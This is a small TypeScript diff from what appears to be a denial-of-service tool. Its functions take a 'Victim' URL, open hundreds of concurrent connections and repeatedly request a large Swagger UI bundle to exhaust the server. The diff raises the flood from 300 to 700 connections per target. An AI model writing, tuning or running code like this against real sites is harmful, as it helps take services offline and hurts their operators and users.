@@ -228,7 +228,7 @@ async function unreadAnswers({ url }: Victim, signal: AbortSignal) {
 
 /** The largest file there is, from many at once before it has been compressed. */
 async function unreadPages({ url }: Victim, signal: AbortSignal) {
-  const peers = await crowd(url, 300, false);
+  const peers = await crowd(url, 700, false);
   for (const peer of peers)
     peer.write("GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: x\r\nAccept-Encoding: gzip\r\n\r\n");
   await every(signal, () => {});
